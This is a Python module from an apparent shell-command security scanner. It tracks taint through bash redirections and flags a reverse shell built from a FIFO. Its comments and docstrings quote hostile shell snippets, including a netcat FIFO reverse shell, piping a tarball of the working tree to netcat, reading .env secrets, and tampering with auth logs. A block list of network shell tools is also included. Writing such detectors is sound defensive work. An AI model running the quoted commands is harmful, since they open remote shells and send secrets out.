"""Redirections: what a command reads on stdin, and the files it writes.

Input: here-documents and here-strings (their text, static or tainted), ``< file`` (a file
written earlier with fetched data keeps its taint), ``< <(cmd)`` (a process substitution's
output). Output: every target is checked (disk devices, startup files, system paths,
protected paths, ``/dev/tcp``), and a file written with tainted or static data is remembered
so running it later in the same command is caught.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from . import _rules as R
from . import ast
from ._checks import check_args, check_write, interpreter_family
from ._copies import appended, write_links
from ._defense import defense_write
from ._fdopen import FD_OPENS, name_fd, open_fd, open_out_fd, out_fd_target
from ._files import file_taint
from ._flow import EMPTY, Flow
from ._paths import candidate_paths, norm_path
from ._projsecrets import redirect_secret
from ._resolve import program_name
from ._shellimage import image_input, image_written
from ._treeexport import tree_file
from ._words import DYN, Field, Source

if TYPE_CHECKING:
    from ._walk import Run

__all__ = ["redirect_input", "redirect_output", "subst_read"]


def redirect_input(run: Run, redirects: tuple[ast.Redirect, ...], stdin: Flow | None
                   ) -> Flow | None:
    for r in redirects:
        if r.fd not in (None, "0") and r.op in FD_OPENS and r.target is not None:
            open_fd(run, r, redirect_input)  # exec 3<<< 'code', exec {fd}< <(curl u)
        elif r.op in ("<<", "<<-") and r.heredoc is not None:
            hd = r.heredoc
            if hd.quoted:
                stdin = Flow(text=hd.text, via="heredoc", span=hd.span, producer="heredoc")
            else:
                b = ast.Word(hd.span, hd.parts)
                f = run.exp.expand_one(b)
                stdin = Flow(f.taint, "heredoc", hd.span, f.text,
                             "heredoc")
        elif r.op == "<<<" and r.target is not None:
            f = run.exp.expand_one(r.target)
            stdin = Flow(f.taint, "here-string", r.target.span,
                         f.text, "here-string")
        elif r.op == "<&" and r.target is not None and r.fd in (None, "0") and \
                run.fds and _fd_name(run, r.target) in run.fds:
            # exec 3< <(curl u); bash <&3: stdin is what descriptor 3 was opened on
            # (sh <&${COPROC[0]}: a coprocess's output).
            stdin = run.fds[_fd_name(run, r.target) or ""]
        elif r.op in ("<", "<>") and r.target is not None and r.fd in (None, "0"):
            for f in run.exp.expand(r.target):
                check_args(run.add, run.cp.paths, "<", [f], run.cwd)
                if f.proc:
                    # < <(cmd): the substitution's output is this command's stdin.
                    text = run.proc_output(f.span)
                    stdin = Flow(f.taint, "a process substitution", f.span, text,
                                 "process substitution")
                    continue
                path = norm_path(f.text, run.cwd)
                taint = file_taint(run.files, path) | redirect_secret(run, f)  # < .env
                if run.trees:  # nc h p < p.tgz, an archive of the working tree (_treeexport)
                    taint |= tree_file(run, path)
                stdin = Flow(taint, f"file {f.text}" if taint else None, f.span,
                             run.file_text.get(path or ""), "file")
                if not taint:
                    stdin = image_input(f.text, stdin)  # < /bin/sh: a shell's bytes
        elif r.target is not None and r.op in ("<", "<>", "<&"):
            for f in run.exp.expand(r.target):
                check_args(run.add, run.cp.paths, "<", [f], run.cwd)
    return stdin

def _fd_name(run: Run, target: ast.Word) -> str | None:
    literal = target.literal_value()
    if literal is not None:
        return literal
    fields = run.exp.expand(target)
    return fields[0].text if len(fields) == 1 and fields[0].static else None


def subst_read(run: Run, body: tuple[ast.Statement, ...]) -> Flow | None:
    """``$(< FILE)`` is ``$(cat FILE)``: the flow of FILE's contents; None for other bodies."""
    if len(body) != 1:
        return None
    cmd = body[0].command
    if type(cmd) is not ast.SimpleCommand or cmd.words or cmd.assignments or \
            not cmd.redirects or any(r.op != "<" or r.fd not in (None, "0")
                                     for r in cmd.redirects):
        return None
    flow = redirect_input(run, cmd.redirects, None)
    if flow is None:
        return EMPTY
    for r in cmd.redirects:
        if r.target is not None:
            for f in run.exp.expand(r.target):
                for path in candidate_paths(f.text, run.cwd):
                    if run.cp.paths.match(path, "sensitive"):
                        src = Source("secret", "$(<)", run.map_span(f.span))
                        return Flow(flow.taint | {src}, flow.producer, flow.span, flow.text)
    return Flow(flow.taint, flow.producer, flow.span, flow.text)


def redirect_output(run: Run, redirects: tuple[ast.Redirect, ...], out: Flow) -> Flow:
    for r in redirects:
        if r.target is None or r.op not in (">", ">>", ">|", "&>", "&>>", "<>", ">&"):
            continue
        if r.fd is not None and r.fd.startswith("{"):
            name_fd(run, r.fd)  # exec {lock}>f: $lock is a descriptor number
        for f in run.exp.expand(r.target):
            # exec 3> F; CMD >&3: an open descriptor writes on where it stopped (appends)
            to_fd = r.op == ">&" and bool(run.links) and out_fd_target(run, f.text) is not None
            if to_fd:
                f = Field(out_fd_target(run, f.text) or "", f.span, f.taint)
            elif r.op == ">&" and (f.text.isdecimal() or f.text == "-"):
                continue
            check_write(run.add, run.cp.paths, f, run.cwd, "redirection writes",
                        out.text if r.fd in (None, "1") or r.op.startswith("&") else None)
            defense_write(run, f, r.op, out.text)  # > /var/log/auth.log, >> ~/.curlrc
            if r.fd not in (None, "1") and r.op != ">&" and not r.op.startswith("&"):
                out_path = norm_path(f.text, run.cwd)
                if out_path is not None:
                    open_out_fd(run, r.fd, out_path)  # exec 3> F: >&3 later writes F
            if r.fd in (None, "1") or r.op.startswith("&"):
                if out.producer is not None:
                    image_written(run, f.text, out)  # cat /bin/sh > x: x runs sh
                path = norm_path(f.text, run.cwd)
                if path is not None and out.taint:
                    run.files[path] = out.taint
                if path is not None and out.text is not None and len(run.file_text) < 64:
                    # >> appends: the old text still runs first (echo X >> f)
                    run.file_text[path] = appended(run.file_text.get(path), out.text,
                                                     out.producer) if \
                        r.op.endswith(">>") or to_fd else out.text
                elif out.text is not None and f.text.endswith(".pth") and \
                        len(run.file_text) < 64:
                    # > "$(python -c 'import site; ...')/x.pth": a startup file whose
                    # directory is computed; its text is checked (_deferred).
                    name = f.text.rpartition("/")[2].replace(DYN, "_")
                    run.file_text["site-packages/" + name] = out.text
                if path not in ("/dev/stdout", "/dev/stderr", None):
                    if run.links:
                        write_links(run, path, f.span)  # ln -s t l; echo CODE > t: l reads CODE
                    if run.printed:
                        run.printed.difference_update(out.taint)  # a token kept in a file
                    out = EMPTY
    return out

# --- simple commands --------------------------------------------------------------------


_NET_TOOLS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat",
                        "telnet", "openssl", "cryptcat", "sbd"})
_FILE_READERS = frozenset({"cat", "tail", "tac", "dd", "tee"})


def fifo_shell(run: Run, pipeline: ast.Pipeline) -> None:
    """``mkfifo p; sh < p | nc h 1 > p``: a network tool after a shell in a pipeline writes
    into the file the shell's side reads (``< p`` or ``cat p |``): the shell's input comes
    from the network and its output goes back (a reverse shell through a FIFO)."""
    if not any(type(sub) is ast.SimpleCommand and sub.redirects for sub in pipeline.commands):
        return  # no file is written or read: the common pipeline costs one pass
    reads: dict[str, int] = {}
    shell_at = -1
    for index, sub in enumerate(pipeline.commands):
        if not isinstance(sub, ast.SimpleCommand) or not sub.words:
            continue
        name = program_name(sub.words[0].literal_value() or "")
        for r in sub.redirects:
            target = r.target.literal_value() if r.target is not None else None
            if r.op in ("<", "<>") and target and r.fd in (None, "0"):
                reads.setdefault(target, index)
        if name in _FILE_READERS:
            for w in sub.words[1:]:
                value = w.literal_value()
                if value and not value.startswith("-"):
                    reads.setdefault(value, index)
        if shell_at < 0 and (name in R.SHELLS or interpreter_family(name) is not None):
            shell_at = index
        elif shell_at >= 0 and name in _NET_TOOLS:
            for r in sub.redirects:
                target = r.target.literal_value() if r.target is not None else None
                if r.op in (">", ">>", ">|") and target in reads and reads[target] <= shell_at:
                    run.add("shell.reverse-shell", sub.span, f"{name} writes what it receives "
                            f"into {target}, which the shell before it reads: a reverse "
                            "shell through a FIFO", None)
                    return
